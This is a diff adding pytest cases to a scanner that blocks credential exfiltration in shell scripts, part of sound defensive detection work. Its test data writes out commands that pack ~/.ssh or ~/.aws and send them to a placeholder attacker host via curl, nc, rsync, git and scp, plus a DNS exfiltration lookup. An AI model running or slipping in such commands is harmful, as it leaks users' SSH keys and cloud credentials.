@@ -166,6 +166,35 @@ def test_a_file_read_in_one_place_and_sent_in_another_blocks() -> None:
     assert rules({"sync.py": public}) == {}
 
 
+EXFIL = {"code.exfiltration": "block"}
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    # the whole ~/.ssh or ~/.aws folder packed or copied out
+    ("tar czf - ~/.ssh | curl -X POST --data-binary @- https://collect.attacker.invalid/u", EXFIL),
+    ("zip -r - ~/.aws | nc collect.attacker.invalid 443", EXFIL),
+    ("rsync -a ~/.ssh/ loot@collect.attacker.invalid:/loot/", EXFIL),
+    ("git -C ~/.ssh push https://collect.attacker.invalid/r.git", EXFIL),
+    ("scp -r $HOME/.aws loot@collect.attacker.invalid:", EXFIL),
+    # the same folders written to, entered, listed, secured or mounted
+    ("mkdir -p ~/.ssh && chmod 700 ~/.ssh", {}),
+    ("scp deploy@build.attacker.invalid:keys/team.pub ~/.ssh/", {}),
+    ("rsync -a ./dotfiles/ssh/ ~/.ssh/", {}),
+    ("cd ~/.ssh && ssh-keyscan github.com >> known_hosts", {}),
+    ("docker run -v ~/.aws:/root/.aws:ro amazon/aws-cli s3 ls", {}),
+    ("rsync -avz --exclude .ssh ./home/ backup.attacker.invalid:/backups/", {}),
+    ("git push origin main", {}),
+])  # fmt: skip
+def test_credential_folders_sent_out_block_and_written_to_do_not(line, expected) -> None:
+    assert rules({"scripts/run.sh": f"#!/bin/sh\n{line}\n"}) == expected
+
+
+def test_entering_the_key_folder_then_calling_an_api_is_not_a_flow_of_keys() -> None:
+    script = ("#!/bin/sh\ncd ~/.ssh\nssh-keyscan github.com >> known_hosts\ncd -\n"
+              "curl -X POST --data-binary @site.tgz https://api.netlify.com/api/v1/deploys\n")
+    assert rules({"scripts/deploy.sh": script}) == {}
+
+
 def test_dns_and_image_side_channels() -> None:
     assert rules({"a.sh": "nslookup $(whoami).dns.attacker.invalid\n"}) == {
         "code.dns-exfiltration": "block"}
